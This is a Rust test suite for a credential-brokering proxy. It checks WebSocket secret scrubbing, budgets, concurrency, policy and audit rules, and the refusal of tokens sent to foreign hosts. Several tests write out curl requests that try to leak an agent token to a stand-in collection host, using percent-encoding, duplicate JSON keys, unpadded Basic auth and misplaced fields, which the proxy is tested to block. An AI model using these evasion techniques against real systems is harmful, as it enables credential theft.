    let (echo, s, token) = ws_setup("").await;
    let proxy = format!("http://agent:{token}@{}", s.proxy);
    let ca = s.ca_file.display().to_string();
    // The token only names the caller: no credential goes upstream, the session is relayed.
    let env = [
        ("SEKS_TOKEN", token.as_str()),
        ("HTTPS_PROXY", proxy.as_str()),
        ("SSL_CERT_FILE", ca.as_str()),
    ];
    let args = [
        "wss://ws.example.test/socket",
        "--until-closed",
        "--no-token",
    ];
    closed_on_revocation(&echo, &s, &args, &env).await;
    assert!(
        echo.handshakes()
            .iter()
            .all(|headers| headers.iter().all(|(k, _)| k != "authorization")),
        "a credential went upstream"
    );
    s.broker.stop().await;
}

/// A session with the WebSocket echo through the broker at `addr`, opened with `token`.
async fn open_session(
    addr: SocketAddr,
    token: &str,
) -> Result<tokio_tungstenite::WebSocketStream<TcpStream>, tokio_tungstenite::tungstenite::Error> {
    let bearer = format!("Bearer {token}");
    open_session_at(addr, "/api/wsecho/socket", ("authorization", &bearer)).await
}

/// A session through the broker at `addr` to `path`, with one header (the token's).
async fn open_session_at(
    addr: SocketAddr,
    path: &str,
    (name, value): (&'static str, &str),
) -> Result<tokio_tungstenite::WebSocketStream<TcpStream>, tokio_tungstenite::tungstenite::Error> {
    use tokio_tungstenite::tungstenite::client::IntoClientRequest;
    let mut request = format!("ws://{addr}{path}").into_client_request().unwrap();
    request.headers_mut().insert(name, value.parse().unwrap());
    let tcp = TcpStream::connect(addr).await.unwrap();
    Ok(tokio_tungstenite::client_async(request, tcp).await?.0)
}

/// Assert that a session was refused at its handshake with 400 `bad_body`; if it opened
/// instead, fail with what it relayed of `message`.
async fn assert_refused_bad_body(
    session: Result<
        tokio_tungstenite::WebSocketStream<TcpStream>,
        tokio_tungstenite::tungstenite::Error,
    >,
    message: &str,
) {
    match session {
        Ok(mut ws) => panic!(
            "a session opened and relayed {:?}",
            echoed(&mut ws, message).await
        ),
        Err(tokio_tungstenite::tungstenite::Error::Http(response)) => {
            assert_eq!(response.status(), 400);
            let code = response.headers().get("x-seks-error");
            assert_eq!(code.and_then(|v| v.to_str().ok()), Some("bad_body"));
        }
        Err(e) => panic!("{e}"),
    }
}

/// The close codes the WebSocket echo has received, once it has received `count` of them
/// (or after ten seconds).
async fn closes(echo: &WsEcho, count: usize) -> Vec<Option<u16>> {
    for _ in 0..200 {
        if echo.closes().len() >= count {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    echo.closes()
}

/// Send `text` on an open session and return the echo.
async fn echoed(ws: &mut tokio_tungstenite::WebSocketStream<TcpStream>, text: &str) -> String {
    use futures_util::{SinkExt, StreamExt};
    use tokio_tungstenite::tungstenite::Message;
    ws.send(Message::text(text)).await.unwrap();
    let reply = tokio::time::timeout(Duration::from_secs(10), ws.next())
        .await
        .expect("no echo")
        .expect("the session ended")
        .unwrap();
    reply.into_text().unwrap().as_str().to_owned()
}

#[tokio::test]
async fn a_websocket_session_scrubs_secrets_added_or_rotated_after_it_opened() {
    const ADDED: &str = "sk-ws-added-while-the-session-is-open-0123";
    const ROTATED: &str = "sk-ws-rotated-while-the-session-is-open-4567";
    let (_echo, s, token) = ws_setup("").await;
    let mut ws = open_session(s.broker.addr, &token).await.unwrap();
    assert_eq!(echoed(&mut ws, "hello").await, "hello");
    s.env.add_secret("added", "wsecho", ADDED).await;
    s.env.cli(&["secret", "rotate", "ws"], ROTATED).await.ok();
    // Changes reach the running broker within a second.
    tokio::time::sleep(Duration::from_millis(1500)).await;
    for secret in [ADDED, ROTATED, WS_KEY] {
        let answer = echoed(&mut ws, &format!("it is {secret}")).await;
        assert_eq!(answer, format!("it is {}", "*".repeat(secret.len())));
    }
    s.broker.stop().await;
}

#[tokio::test]
async fn open_websocket_sessions_get_the_shutdown_grace_then_a_going_away_close() {
    use futures_util::StreamExt;
    use tokio_tungstenite::tungstenite::Message;
    use tokio_tungstenite::tungstenite::protocol::frame::coding::CloseCode;
    let (echo, s, token) = ws_setup("").await;
    let mut ws = open_session(s.broker.addr, &token).await.unwrap();
    assert_eq!(echoed(&mut ws, "hello").await, "hello");
    let session = async {
        // An open session is a request in flight: it goes on during the grace…
        tokio::time::sleep(Duration::from_millis(500)).await;
        assert_eq!(echoed(&mut ws, "still there").await, "still there");
        // …and then both sides are told the broker is going away.
        tokio::time::timeout(Duration::from_secs(15), ws.next()).await
    };
    let ((), next) = tokio::join!(s.broker.terminate(), session);
    match next {
        Ok(Some(Ok(Message::Close(Some(frame))))) => assert_eq!(frame.code, CloseCode::Away),
        other => panic!("the session ended without a close frame: {other:?}"),
    }
    assert_eq!(closes(&echo, 1).await, [Some(1001)]);
}

#[tokio::test]
async fn an_upstream_message_over_the_limit_closes_both_sides_as_too_big() {
    use futures_util::{SinkExt, StreamExt};
    use tokio_tungstenite::tungstenite::Message;
    use tokio_tungstenite::tungstenite::protocol::frame::coding::CloseCode;
    let (echo, mut s, token) = ws_setup("").await;
    // Messages are limited as bodies are; a limit below the echo's big message.
    s.broker.stop().await;
    let config = std::fs::read_to_string(&s.env.config).unwrap();
    std::fs::write(&s.env.config, format!("max_body_bytes = 1024\n{config}")).unwrap();
    const { assert!(crate::support::ws::BIG > 1024) };
    s.broker = s.env.serve().await;
    let mut ws = open_session(s.broker.addr, &token).await.unwrap();
    assert_eq!(echoed(&mut ws, "hello").await, "hello");
    ws.send(Message::text("say-big")).await.unwrap();
    match tokio::time::timeout(Duration::from_secs(10), ws.next()).await {
        Ok(Some(Ok(Message::Close(Some(frame))))) => {
            assert_eq!(frame.code, CloseCode::Size);
            assert_eq!(frame.reason.as_str(), "message_too_big");
        }
        other => panic!("the session ended without a 1009 close frame: {other:?}"),
    }
    assert_eq!(closes(&echo, 1).await, [Some(1009)]);
    s.broker.stop().await;
}

#[tokio::test]
async fn a_gemini_live_session_under_a_model_list_is_refused_whatever_its_url_names() {
    let (echo, s, _) =
        ws_setup("[providers.gemini]\nbase_url = \"https://ws.example.test\"\n").await;
    s.env
        .add_secret("gem", "gemini", "AIza-REAL-gemini-key-0123456789")
        .await;
    let policy = s.env.data_dir().join("flash.toml");
    std::fs::write(&policy, "models = [\"gemini-2.0-flash\"]\n").unwrap();
    let policy = policy.display().to_string();
    let token = s
        .env
        .create_token("gem", &["--agent", "live", "--policy", &policy])
        .await;
    // The Live API ignores a `model` in the URL: the session's setup message names it.
    let live = "/api/gemini/ws/google.ai.generativelanguage.v1beta.GenerativeService.\
                BidiGenerateContent?model=gemini-2.0-flash";
    let setup = r#"{"setup":{"model":"models/gemini-2.5-pro"}}"#;
    assert_refused_bad_body(
        open_session_at(s.broker.addr, live, ("x-goog-api-key", &token)).await,
        setup,
    )
    .await;
    assert!(echo.handshakes().is_empty(), "nothing reached the upstream");
    s.broker.stop().await;
}

#[tokio::test]
async fn a_token_with_body_rules_opens_no_websocket_session_to_carry_unchecked_messages() {
    let (echo, s, _) = ws_setup("").await;
    let policy = s.env.data_dir().join("bounded.toml");
    std::fs::write(&policy, "body = [{ pointer = \"/amount\", max = 5 }]\n").unwrap();
    let policy = policy.display().to_string();
    let token = s
        .env
        .create_token("ws", &["--agent", "bounded", "--policy", &policy])
        .await;
    // What its body rule refuses in a request body, a session's message would carry.
    assert_refused_bad_body(
        open_session(s.broker.addr, &token).await,
        r#"{"amount":5000}"#,
    )
    .await;
    assert!(echo.handshakes().is_empty(), "nothing reached the upstream");
    s.broker.stop().await;
}

#[tokio::test]
async fn an_open_websocket_session_holds_its_concurrency_slot() {
    let (echo, s, _) = ws_setup("").await;
    let token = s
        .env
        .create_token("ws", &["--agent", "narrow", "--concurrency", "1"])
        .await;
    let url = format!("ws://{}/api/wsecho/socket", s.broker.addr);
    let env = [("SEKS_TOKEN", token.as_str())];
    let args = [url.as_str(), "--until-closed"];
    let first = run_python("ws_client.py", &args, &env);
    let second = async {
        while echo.handshakes().is_empty() {
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        tokio::time::sleep(Duration::from_millis(500)).await;
        // The first session is open: a second one would be two in flight.
        let out = run_python("ws_client.py", &[url.as_str()], &env).await;
        let id = s.env.token_id("narrow").await;
        s.env.cli(&["token", "revoke", &id], "").await.ok();
        out
    };
    let (first, second) = tokio::join!(first, second);
    assert_eq!(
        first.stdout.trim(),
        "closed 1008 token_revoked",
        "{first:#?}"
    );
    assert!(!second.status.success(), "{second:#?}");
    assert!(second.stderr.contains("429"), "{second:#?}");
    assert_eq!(echo.handshakes().len(), 1);
    s.broker.stop().await;
}

#[tokio::test]
async fn a_websocket_session_is_charged_its_reported_usage_and_ends_once_its_budget_is_used_up() {
    let (echo, s, _) = ws_setup("").await;
    let token = s
        .env
        .create_token("ws", &["--agent", "spender", "--daily-tokens", "100"])
        .await;
    let url = format!("ws://{}/api/wsecho/socket", s.broker.addr);
    let env = [("SEKS_TOKEN", token.as_str())];
    // A session may last for hours: were the budget checked only at the handshake, the
    // responses it asks for after the budget ran out would go on unbounded.
    let done = r#"{"type":"response.done","response":{"usage":{"total_tokens":5000}}}"#;
    let out = run_python(
        "ws_client.py",
        &[url.as_str(), "--first", done, "--until-closed"],
        &env,
    )
    .await;
    assert!(out.status.success(), "{out:#?}");
    assert_eq!(
        out.stdout.trim(),
        "closed 1008 budget_exhausted",
        "{out:#?}"
    );
    // What the session reported was charged: the next one is refused at the handshake.
    let out = run_python("ws_client.py", &[url.as_str()], &env).await;
    assert!(!out.status.success(), "{out:#?}");
    assert!(out.stderr.contains("429"), "{out:#?}");
    assert_eq!(echo.handshakes().len(), 1);
    s.broker.stop().await;
}

#[tokio::test]
async fn in_strict_audit_mode_no_websocket_session_starts_before_its_record_is_written() {
    let (_echo, s, token) = ws_setup("[audit]\ndurability = \"strict\"\n").await;
    let url = format!("ws://{}/api/wsecho/socket", s.broker.addr);
    let env = [("SEKS_TOKEN", token.as_str())];
    // The log can't be written: the handshake goes upstream (nothing has failed yet), but
    // its record can't commit, so the agent gets the refusal instead of the 101.
    s.env.break_audit_writes().await;
    let out = run_python("ws_client.py", &[url.as_str()], &env).await;
    assert!(!out.status.success(), "a session started: {out:#?}");
    assert!(out.stderr.contains("HTTP 503"), "{}", out.stderr);
    s.env.heal_audit_writes().await;
    s.broker.stop().await;
}

#[tokio::test]
async fn tokens_in_bodies_are_replaced_only_in_credential_fields_for_providers_that_take_them() {
    const SLACK_KEY: &str = "xoxb-REAL-slack-0123456789";
    let s = setup("").await;
    s.env.add_secret("slack", "slack", SLACK_KEY).await;
    let slack = s.env.create_token("slack", &["--agent", "proxied"]).await;

    let form = format!("channel=C1&token={slack}&text=hello+there");
    let sent = curl(&s, &["-d", &form, "https://slack.com/api/chat.postMessage"]).await;
    assert_eq!(sent.status, 200, "{sent:#?}");
    let seen = s.mock.requests();
    let upstream = seen.last().unwrap();
    assert_eq!(upstream.target, "/api/chat.postMessage");
    assert_eq!(
        String::from_utf8_lossy(&upstream.body),
        format!("channel=C1&token={SLACK_KEY}&text=hello+there")
    );
    let json = format!(r#"{{"token":"{slack}","channel":"C1"}}"#);
    let sent = curl(
        &s,
        &[
            "-H",
            "content-type: application/json",
            "-d",
            &json,
            "https://slack.com/api/chat.postMessage",
        ],
    )
    .await;
    assert_eq!(sent.status, 200, "{sent:#?}");
    let body: Value = serde_json::from_slice(&s.mock.requests().last().unwrap().body).unwrap();
    assert_eq!(body["token"], SLACK_KEY);

    let before = s.mock.requests().len();
    let text_field = format!("channel=C1&text={slack}");
    let openai_json = format!(r#"{{"model":"gpt-4o-mini","api_key":"{}"}}"#, s.token);
    let bearer = format!("authorization: Bearer {}", s.token);
    let nested = format!(r#"{{"channel":"C1","attachments":[{{"author_name":"{slack}"}}]}}"#);
    let in_query = format!("https://slack.com/api/chat.postMessage?token={slack}");
    let in_path = format!("https://api.openai.com/v1/files/{}", s.token);
    for (args, code) in [
        // A token in a field that is no credential: a provider could publish it.
        (
            vec![
                "-d",
                text_field.as_str(),
                "https://slack.com/api/chat.postMessage",
            ],
            "token_misplaced",
        ),
        // Nor is a nested field (an attachment's `author_name` here, shown in the channel).
        (
            vec![
                "-H",
                "content-type: application/json",
                "-d",
                nested.as_str(),
                "https://slack.com/api/chat.postMessage",
            ],
            "token_misplaced",
        ),
        // A query parameter or a path segment is a credential's place only for a provider
        // that takes its key there (a webhook's `token=` goes to the hook's URL; a file
        // name is published).
        (vec![in_query.as_str()], "token_misplaced"),
        (vec![in_path.as_str()], "token_misplaced"),
        // OpenAI takes no credential in bodies.
        (
            vec![
                "-H",
                bearer.as_str(),
                "-H",
                "content-type: application/json",
                "-d",
                openai_json.as_str(),
                "https://api.openai.com/v1/chat/completions",
            ],
            "token_misplaced",
        ),
        // Any token in a body to another host.
        (
            vec!["-d", form.as_str(), "https://echo.example.test/collect"],
            "token_to_foreign_host",
        ),
        (
            vec![
                "-H",
                "content-type: application/json",
                "-d",
                openai_json.as_str(),
                "https://echo.example.test/collect",
            ],
            "token_to_foreign_host",
        ),
    ] {
        let refused = curl(&s, &args).await;
        assert_eq!(refused.seks_error(), Some(code), "{args:?}: {refused:#?}");
    }
    assert_eq!(s.mock.requests().len(), before);
    s.broker.stop().await;
}

#[tokio::test]
async fn tokens_only_a_lenient_reader_sees_are_refused_on_their_way_to_another_host() {
    let s = setup("").await;
    let t = &s.token;
    let encoded = t.replacen('_', "%5F", 1);
    let dir = tempfile::tempdir().unwrap();
    // Bytes that aren't UTF-8 beside a percent-encoded token: servers still decode it.
    let form_file = dir.path().join("form");
    let mut form = b"a=\xff&k=".to_vec();
    form.extend_from_slice(encoded.as_bytes());
    std::fs::write(&form_file, form).unwrap();
    let header_file = dir.path().join("header");
    let mut cookie = format!("cookie: k={encoded}; b=").into_bytes();
    cookie.extend_from_slice(b"\xff\n");
    std::fs::write(&header_file, cookie).unwrap();
    let (form_arg, header_arg) = (
        format!("@{}", form_file.display()),
        format!("@{}", header_file.display()),
    );
    // A repeated JSON key: a parser keeping the last value sees no token, the upstream's
    // may keep the first.
    let repeated = format!(r#"{{"x":"{t}","x":1}}"#);
    let json = format!(r#"{{"x":"{t}"}}"#);
    // Basic credentials without their padding, as lenient decoders take them.
    let unpadded = format!(
        "authorization: Basic {}",
        BASE64.encode(format!("a:{t}")).trim_end_matches('=')
    );
    assert!(BASE64.encode(format!("a:{t}")).ends_with('='));
    let to = "https://echo.example.test/collect";
    let before = s.mock.requests().len();
    for args in [
        vec!["-H", "content-type: application/json", "-d", &repeated, to],
        vec!["--data-binary", &form_arg, to],
        vec!["-H", &header_arg, to],
        vec!["-H", &unpadded, to],
        // `identity` is no content coding: the body is as readable as without it.
        vec![
            "-H",
            "content-type: application/json",
            "-H",
            "content-encoding: identity",
            "-d",
            &json,
            to,
        ],
    ] {
        let refused = curl(&s, &args).await;
        assert_eq!(refused.status, 403, "{args:?}: {refused:#?}");
        assert_eq!(
            refused.seks_error(),
            Some("token_to_foreign_host"),
            "{args:?}: {refused:#?}"
        );
    }
    assert_eq!(
        s.mock.requests().len(),
        before,
        "nothing reached the other host"
    );
    s.broker.stop().await;
}

#[tokio::test]
async fn a_custom_providers_own_header_carries_the_credential_through_the_proxy() {
    let mut names = MOCK_NAMES.to_vec();
    names.push("acme.example.test");
    let s = setup_with(
        TestCa::for_names(&names),
        r#""acme.example.test" = "127.0.0.1:MOCK_PORT"

[providers.acme]
base_url = "https://acme.example.test"
token_in = [{ in = "header", name = "X-Acme-Sig" }]
auth = { scheme = "header", name = "X-Acme-Sig" }
"#,
    )
    .await;
    const ACME_KEY: &str = "acme-REAL-key-0123456789";
    s.env.add_secret("acme", "acme", ACME_KEY).await;
    let acme = s.env.create_token("acme", &["--agent", "proxied"]).await;
    let header = format!("x-acme-sig: {acme}");
    let sent = curl(&s, &["-H", &header, "https://acme.example.test/v1/things"]).await;
    assert_eq!(sent.status, 200, "{sent:#?}");
    let seen = s.mock.requests();
    let upstream = seen.last().unwrap();
    assert_eq!(upstream.header("x-acme-sig"), Some(ACME_KEY));
    assert!(
        !upstream.raw().contains(&acme),
        "the token never goes upstream"
    );
    s.broker.stop().await;
}

#[tokio::test]
async fn a_builtin_moved_to_another_server_takes_none_of_its_built_in_hosts() {
    // GitHub Enterprise: the built-in `github` pointed at a self-hosted server.
    let s = setup(
        "\"github.com\" = \"127.0.0.1:MOCK_PORT\"\n\n[providers.github]\nbase_url = \"https://ghe.example.test/api/v3\"\n",
    )
    .await;
    let ghe_key = "ghp_REAL-enterprise-KEY-0123456789";
    s.env.add_secret("ghe", "github", ghe_key).await;
    let token = s.env.create_token("ghe", &["--agent", "ghe"]).await;
    let auth = format!("authorization: Bearer {token}");
    let reply = curl(&s, &["-H", &auth, "https://github.com/user"]).await;
    // github.com is no destination of any provider now.
    assert_eq!(reply.connect, 403, "{reply:#?}");
    assert_eq!(reply.seks_error(), Some("destination_not_allowed"));
    assert!(
        s.mock
            .requests()
            .iter()
            .all(|seen| !seen.raw().contains(ghe_key)),
        "the enterprise key reached github.com"
    );
    s.broker.stop().await;
}
